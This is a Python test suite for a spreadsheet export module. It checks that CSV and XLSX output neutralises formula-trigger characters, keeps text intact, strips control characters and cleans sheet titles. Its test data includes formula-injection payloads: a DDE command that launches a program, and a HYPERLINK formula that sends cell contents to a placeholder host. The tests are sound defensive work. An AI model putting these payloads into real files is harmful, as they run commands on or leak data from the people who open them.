"""The export: nothing leaves that a spreadsheet would run, and nothing is lost on the way."""

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.engines.sheets_write import (
    csv_bytes,
    guarded,
    sheet_title,
    unguarded,
    xlsx_bytes,
)
from tests.properties import calm

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x?"&A1,"点")',
    "'=1+1",
    "''=1",
]
TEXT = st.text(st.characters(exclude_categories=["Cs"]))


def read_back(body):
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), strict=True))


@calm
@given(st.lists(st.lists(TEXT, min_size=1, max_size=4), max_size=5))
def test_every_text_reads_back_after_removing_the_guard(rows):
    back = read_back(csv_bytes(rows, ["甲"]))
    assert [[unguarded(cell) for cell in row] for row in back[1:]] == rows


@calm
@given(st.sampled_from("=+-@\t\r\n＝＋－＠"), TEXT)
def test_no_cell_starts_as_a_formula(mark, rest):
    assert guarded(mark + rest) == f"'{mark}{rest}"
    assert guarded("x" + mark + rest) == "x" + mark + rest


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_leaves_as_text(text):
    ((cell,),) = read_back(csv_bytes([[text]], ["x"]))[1:]
    assert cell.startswith("'") and unguarded(cell) == text
    assert b"\r\n" + cell[:1].encode() in csv_bytes([[text]], ["x"]).replace(b'"', b"")


def test_the_heading_is_guarded_too():
    assert read_back(csv_bytes([], ["=a", "b"])) == [["'=a", "b"]]


def test_the_mark_is_for_spreadsheets():
    assert csv_bytes([["a,b", 'c"d', 7, None]], ["x"]) == (b'\xef\xbb\xbfx\r\n"a,b","c""d",7,\r\n')
    assert csv_bytes([], ["x"], spreadsheet=False) == b"x\r\n"


def test_a_workbook_holds_strings_only():
    body = xlsx_bytes([[text, "#N/A", 12, 1.5, None] for text in FORMULAS], ["=h", *"abcd"])
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert not re.search(r"<f[\s>/]", sheet)
    assert set(re.findall(r'<c [^>]*t="(\w+)"', sheet)) <= {"s", "inlineStr"}
    assert sheet.count("<c ") == len(re.findall(r'<c [^>]*t="', sheet))
    rows = list(openpyxl.load_workbook(io.BytesIO(body)).active.iter_rows(min_row=2))
    assert [row[0].value for row in rows] == [text.replace("\r", "\n") for text in FORMULAS]
    assert {cell.data_type for row in rows for cell in row if cell.value is not None} == {"s"}
    assert all(row[0].quotePrefix for row in rows)


def test_control_characters_do_not_leave():
    body = xlsx_bytes([["a\0b\x07c\x1b"]], ["x"])
    assert openpyxl.load_workbook(io.BytesIO(body)).active["A2"].value == "abc"


@pytest.mark.parametrize(
    ("title", "expected"),
    [("授权/清单[1]", "授权 清单 1"), ("", "Hufu"), ("'", "Hufu"), ("长" * 40, "长" * 31)],
)
def test_a_sheet_title_is_made_lawful(title, expected):
    assert sheet_title(title) == expected
    assert openpyxl.load_workbook(io.BytesIO(xlsx_bytes([], ["x"], title))).active.title == expected
